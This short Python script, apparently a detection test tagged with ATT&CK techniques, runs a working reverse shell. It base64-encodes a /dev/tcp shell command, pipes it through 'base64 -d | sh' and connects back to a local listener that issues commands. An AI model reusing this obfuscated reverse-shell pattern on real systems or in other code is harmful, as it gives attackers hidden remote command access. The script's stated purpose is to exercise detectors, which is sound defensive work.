# technique: T1059.004 T1095 T1140
"""Reverse shell hidden in base64 and piped to sh: echo … | base64 -d | sh (T1059.004, T1095, T1140).

The Python side only ever passes "echo <blob> | base64 -d | sh" to
subprocess with shell=True; the decoded text, seen by the second shell
alone, is a /dev/tcp reverse shell to our operator. The network target
appears nowhere in clear in the records.

A good detector raises a high alert: shell text that decodes data and
pipes it into a shell.
"""
import base64
import socket
import subprocess
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
inner = "bash -c 'sh -i >& /dev/tcp/127.0.0.1/%d 0>&1' 2>/dev/null" % port
blob = base64.b64encode(inner.encode()).decode()
subprocess.call("echo %s | base64 -d | sh" % blob, shell=True, timeout=5)
operator.join(3)
print("operator transcript:", transcript)
